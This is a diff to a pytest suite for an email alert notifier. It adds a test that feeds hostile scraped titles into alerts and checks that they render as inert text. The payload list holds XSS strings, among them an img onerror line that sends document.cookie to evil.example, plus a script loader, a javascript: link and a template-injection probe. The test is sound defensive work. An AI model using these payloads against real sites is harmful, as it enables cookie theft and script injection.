@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
+
 import pytest
 
 from notifier import DeliveryError, make_channel
@@ -31,7 +33,7 @@ async def test_an_alert_arrives_as_text_and_html_to_every_recipient(mail_server,
     assert received.rcpt_tos == RECIPIENTS
     message = received.message
     assert message["Subject"] == (
-        "All of Us Are Dead S2: release date now March 2026 (reported, 3 sources), was: early 2026"
+        "All of Us Are Dead S2: release window now March 2026 (reported, 3 sources), was: early 2026"
     )
     assert message["From"] == "claimwatch <alerts@example.org>"
     assert message["To"] == "me@example.org, wiki-team@example.org"
@@ -110,3 +112,58 @@ async def test_starttls_against_a_server_without_it_is_permanent(mail_server, al
         await mail_channel(mail_server.port, security="starttls").send(alert, idempotency_key="k")
     assert error.value.permanent
     assert mail_server.messages == []
+
+
+HOSTILE = [
+    '</td></table><script src="https://evil.example/x.js"></script>',
+    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
+    '"><a href="javascript:alert(1)">click</a><!--',
+    "{{ config.__class__ }} {% for x in () %}${7*7}",
+    "<style>body{display:none}</style><iframe src=//evil.example>",
+]
+ALLOWED_TAGS = {"html", "head", "meta", "body", "h2", "h3", "table", "tr", "th", "td", "blockquote", "br",
+                "small", "a", "p", "ul", "li"}
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+@pytest.mark.parametrize("title", HOSTILE)
+async def test_a_hostile_scraped_title_is_inert_text_in_both_parts(mail_server, make_alert, title):
+    evidence = [{"url": "https://example.org/a", "site": title, "sentence": title, "attributed_to": title}]
+    person = {"name": title, "character": title, "status": "new"}
+    alert = make_alert(kind="cast", change="added", previous=None, value=person, evidence=evidence)
+    await mail_channel(mail_server.port).send(alert, idempotency_key="cw-hostile")
+    [message] = mail_server.messages
+    html_part = message.get_body(("html",)).get_content()
+    parser = _Tags()
+    parser.feed(html_part)
+    assert {tag for tag, _ in parser.tags} <= ALLOWED_TAGS
+    for _, attrs in parser.tags:
+        assert not [name for name in attrs if name.startswith("on") or name == "src"]
+        assert all(value in ("https://example.org/a", "https://news.example.com/b")
+                   for name, value in attrs.items() if name == "href")
+    assert title in "".join(parser.text)  # shown to the reader, as text
+    assert title in message.get_body(("plain",)).get_content()  # the template ran nothing: "${7*7}" stays
+    assert "49" not in message["Subject"]
+
+
+async def test_an_email_over_its_size_limit_is_shortened_with_a_link(mail_server, make_alert):
+    evidence = [{"url": f"https://example.org/{i}", "site": "example.org", "sentence": "Words. " * 100}
+                for i in range(5)]
+    await mail_channel(mail_server.port, max_chars=1500).send(make_alert(evidence=evidence), idempotency_key="k")
+    [message] = mail_server.messages
+    text = message.get_body(("plain",)).get_content()
+    assert len(text) <= 1501 and "the rest at https://example.org/0" in text
+    assert message["Subject"].startswith("All of Us Are Dead S2: release window now")
+    assert "the rest at https://example.org/0" in message.get_body(("html",)).get_content()
